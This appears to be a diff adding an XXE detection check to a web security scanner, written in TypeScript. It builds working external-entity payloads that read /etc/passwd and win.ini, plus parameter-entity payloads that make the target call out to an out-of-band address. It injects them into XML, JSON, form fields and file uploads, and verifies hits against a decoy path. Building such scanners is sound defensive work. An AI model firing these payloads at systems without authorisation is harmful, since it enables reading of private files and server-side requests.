@@ -1,0 +1,125 @@
+// External entities of XML: a document's own declaration makes the target read a file or ask an address.
+
+import { replaceHeader } from '../points.ts'
+import { expectCall, quietly } from '../probing.ts'
+import { xmlOf } from '../seed/openapi.ts'
+import type { Context, Exchange, HttpRequest, Operation, OperationCheck, Sighting } from '../types.ts'
+import { xmlLeaves } from '../xml-leaves.ts'
+import { passwdIn } from './files.ts'
+
+const files = [
+  { address: 'file:///etc/passwd', wrong: 'file:///etc/pazzwd', shows: passwdIn },
+  {
+    address: 'file:///c:/windows/win.ini',
+    wrong: 'file:///c:/windows/wim.ini',
+    shows: (text: string) => /\[fonts\]/i.exec(text)?.[0] ?? null,
+  },
+] as const
+
+export const xmlEntities: OperationCheck = {
+  kind: 'operation',
+  id: 'xml-external-entity',
+  title: 'External entities of XML are followed',
+  cwes: [611],
+  severity: 'HIGH',
+  solution: 'Turn off document types and external entities in the XML parser.',
+  profile: 'BALANCED',
+  accepts: ({ body, source }) =>
+    body !== null && source !== 'graphql' && ['xml', 'json', 'raw', 'form', 'multipart'].includes(body.type),
+  async *probe(operation, context) {
+    for (const { document, send } of documentsOf(operation, context)) {
+      for (const { address, wrong, shows } of files) {
+        const exchange = await send(withEntity(document, address))
+        const proof = exchange && shows(exchange.text)
+        if (!exchange || !proof) continue
+        const other = await send(withEntity(document, wrong))
+        if (other && shows(other.text)) continue
+        yield sightingOf(exchange, proof, `The entity ${address} of the document comes back with the file's content.`)
+        return
+      }
+      if (!context.outOfBand) continue
+      for (const make of [
+        withEntity,
+        (text: string, url: string) => `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "${url}"> %p;]>${text}`,
+      ]) {
+        await expectCall(
+          operation,
+          context,
+          ({ url }) => send(make(document, url)),
+          (exchange, url) =>
+            context.report(xmlEntities, {
+              ...sightingOf(exchange, url, 'An entity of the document made the target call out.'),
+              operation,
+            }),
+        )
+      }
+    }
+  },
+}
+
+const sightingOf = (exchange: Exchange, proof: string, detail: string): Sighting => ({
+  detail,
+  proof: [proof],
+  exchange,
+})
+
+type Sending = { document: string; send: (document: string) => Promise<Exchange | null> }
+
+/** The operation's own XML; a JSON body as XML, which some frameworks read as well; texts that are XML inside of fields. */
+function documentsOf(operation: Operation, context: Context): Sending[] {
+  const { body } = operation
+  if (!body) return []
+  if (body.type === 'form' || body.type === 'multipart') {
+    return body.fields.flatMap((field): Sending[] => {
+      const isFile = field.fileName !== undefined
+      if (!isFile && !/^\s*</.test(field.value) && !/xml/i.test(field.name)) return []
+      const point = {
+        place: isFile ? ('file' as const) : body.type === 'form' ? ('form' as const) : ('multipart' as const),
+        name: field.name,
+        value: field.value,
+      }
+      const document = /^\s*<\w/.test(field.value) ? plain(field.value) : '<root><name>merlon</name></root>'
+      const change = isFile ? { fileName: 'merlon.xml', mediaType: 'text/xml' } : {}
+      const svg = { fileName: 'merlon.svg', mediaType: 'image/svg+xml' }
+      const sendAs = (more: object) => (text: string) => context.attempt(operation, [{ point, value: text, ...more }])
+      return isFile
+        ? [
+            { document, send: sendAs(change) },
+            {
+              document: '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>merlon</text></svg>',
+              send: sendAs(svg),
+            },
+          ]
+        : [{ document, send: sendAs(change) }]
+    })
+  }
+  const isXml = body.type === 'xml' || (body.type === 'raw' && /^\s*</.test(body.text))
+  const json = body.type === 'json' ? xmlOf('root', body.value) : null
+  const document = isXml && 'text' in body ? plain(body.text) : json
+  if (document === null) return []
+  const mediaType = body.type === 'xml' ? body.mediaType : 'application/xml'
+  return [
+    {
+      document,
+      send: (text) => quietly(context.send(withBody(context.requestOf(operation), text, mediaType), { operation })),
+    },
+  ]
+}
+
+const plain = (text: string) => text.replace(/^\s*<\?xml[^>]{0,200}\?>/, '').replace(/^\s*<!DOCTYPE[^>]{0,500}>/i, '')
+
+function withBody(request: HttpRequest, body: string, mediaType: string): HttpRequest {
+  const headers = request.headers.map(([name, value]): [string, string] => [name, value])
+  replaceHeader(headers, 'Content-Type', mediaType)
+  replaceHeader(headers, 'Content-Length', String(Buffer.byteLength(body)))
+  return { ...request, headers, body }
+}
+
+/** The document with the entity in each of its texts. */
+function withEntity(document: string, address: string): string {
+  const declared = `<?xml version="1.0"?><!DOCTYPE merlon [<!ENTITY merlon SYSTEM "${address}">]>`
+  const filled = document.replace(/>([^<>]{0,4000})<\//g, (whole, text: string) =>
+    /^\s+$/.test(text) ? whole : '>&merlon;</',
+  )
+  return declared + (xmlLeaves(filled).length > 0 || filled !== document ? filled : '<merlon>&merlon;</merlon>')
+}
